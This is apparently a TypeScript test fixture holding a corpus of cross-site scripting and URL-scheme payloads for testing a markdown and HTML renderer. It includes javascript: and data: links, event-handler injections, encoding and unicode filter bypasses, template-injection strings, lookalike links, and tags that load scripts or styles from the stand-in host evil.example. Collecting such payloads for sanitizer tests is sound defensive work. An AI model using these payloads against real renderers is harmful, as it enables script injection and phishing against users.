/** What has opened other programs' windows: every way of getting markup, an address or a script past a renderer. */
const ADDRESSES = [
	"javascript:alert(1)", "JAVASCRIPT:alert(1)", "jAvAsCrIpT:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "&#106;avascript:alert(1)",
	"&#x6A;avascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)",
	"\u0001javascript:alert(1)", " javascript:alert(1)", "javascript:%61lert(1)", "javascript://example.org/%0aalert(1)", "vbscript:msgbox(1)",
	"data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
	"file:///etc/passwd", "tauri://localhost/", "ipc://localhost/x", "blob:https://example.org/1", "view-source:https://example.org", "about:blank",
	"//evil.example", "/\\evil.example", "\\\\evil.example\\share", "smb://evil.example/x", "chrome://settings", "feed:javascript:alert(1)", "jar:x!/", "#", "", ".", "intent://x#Intent;end", "ms-word:ofe|u|x",
];

const AROUND: ((address: string) => string)[] = [
	(a) => `[x](${a})`, (a) => `[x](<${a}>)`, (a) => `[x](${a} "title")`, (a) => `![x](${a})`, (a) => `[![x](${a})](${a})`, (a) => `<${a}>`,
	(a) => `[x]\n\n[x]: ${a}`, (a) => `[x][y]\n\n[y]: <${a}> 'z'`, (a) => `| [x](${a}) |\n|---|\n| ![y](${a}) |`, (a) => `- [ ] [x](${a})`, (a) => `# [x](${a})`, (a) => `> **[x](${a})**`,
];

const MARKUP = [
	"<script>alert(1)</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>", "<img src=x onerror=alert(1)>", "<img src='https://evil.example/pixel.png'>",
	"<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
	"<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>",
	"<a href=javascript:alert(1)>x</a>", "<a href='https://example.org' onclick=alert(1)>x</a>", "<a href=javascript&colon;alert(1)>x</a>", "<base href=https://evil.example/>", "<link rel=stylesheet href=https://evil.example/x.css>",
	"<style>@import 'https://evil.example/x.css'</style>", "<style>body{background:url(https://evil.example)}</style>", "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<form action=https://evil.example><input name=x><button>go</button></form>",
	"<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>",
	"<div style='background:url(javascript:alert(1))'>", "<div onmouseover=alert(1)>x</div>", "<div contenteditable onblur=alert(1) autofocus>", "<x onclick=alert(1) tabindex=1 id=x></x>", "<template><script>alert(1)</script></template>",
	"<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml version='1.0'?><script>alert(1)</script>", "<!DOCTYPE html><script>alert(1)</script>",
	"<lobeArtifact type='image/svg+xml'><svg onload=alert(1)></lobeArtifact>", "<think><script>alert(1)</script></think>", "<custom-element onclick=alert(1)>", "<button onclick=alert(1)>x</button>", "<portal src=https://evil.example>", "<dialog open><form method=dialog>",
	"`<script>alert(1)</script>`", "```html\n<script>alert(1)</script>\n```", "```\"><script>alert(1)</script>\nx\n```", "```js onload=alert(1)\nx\n```", "~~~<img src=x onerror=alert(1)>\nx\n~~~", "    <script>alert(1)</script>",
	"**<img src=x onerror=alert(1)>**", "[<img src=x onerror=alert(1)>](https://example.org)", "[x](https://example.org \"onmouseover=alert(1)\")", "[x](https://example.org/\"onmouseover=alert(1)//)", "![x\" onerror=alert(1) y=\"](https://example.org/x.png)", "![<script>alert(1)</script>](https://example.org/x.png)",
	"<https://example.org/\"onmouseover=alert(1)>", "https://example.org/<script>alert(1)</script>", "https://example.org/\"><img src=x onerror=alert(1)>", "| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n|---|---|\n| <svg onload=alert(1)> | x |",
	"- <img src=x onerror=alert(1)>\n- [ ] <script>alert(1)</script>", "> <iframe src=javascript:alert(1)>", "# <script>alert(1)</script>", "<script>alert(1)</script>\n===", "$\\href{javascript:alert(1)}{x}$", "\\<script>alert(1)\\</script>",
	"&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "<img src=x:alert(alt) onerror=eval(src) alt=x>", "{@html '<script>alert(1)</script>'}", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
	"\u202ehttps://example.org/gpj.exe", "[a](https://аpple.com)", "<a\u0000href=javascript:alert(1)>x</a>", "<\u0073cript>alert(1)</script>", "<script\u000balert(1)>", "<scr\u0000ipt>alert(1)</script>",
];

export const payloads: string[] = [...ADDRESSES.flatMap((address) => AROUND.map((around) => around(address))), ...MARKUP];
